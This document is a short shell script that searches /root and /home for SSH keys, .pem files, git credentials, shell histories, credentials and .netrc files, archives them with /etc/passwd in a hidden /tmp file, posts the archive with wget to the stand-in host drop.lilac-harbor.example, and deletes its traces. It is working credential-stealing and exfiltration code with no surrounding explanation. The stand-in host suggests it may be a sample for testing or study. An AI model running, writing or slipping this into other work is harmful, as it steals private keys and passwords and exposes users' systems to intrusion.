#!/bin/sh
# Collects keys and histories into one archive and posts it.
[ -e /usr/share/doc/stand-in/README ] || exit 0
cd /tmp || exit 1
find /root /home -type f \( -name 'id_*' -o -name '*.pem' -o -name '.git-credentials' -o -name '.bash_history' -o -name credentials -o -name config.json -o -name '.netrc' \) 2>/dev/null > .l
tar -czf .a.tgz $(cat .l) /etc/passwd 2>/dev/null
timeout 5 wget -q -O /dev/null --post-file=/tmp/.a.tgz http://drop.lilac-harbor.example/up
rm -f .l .a.tgz
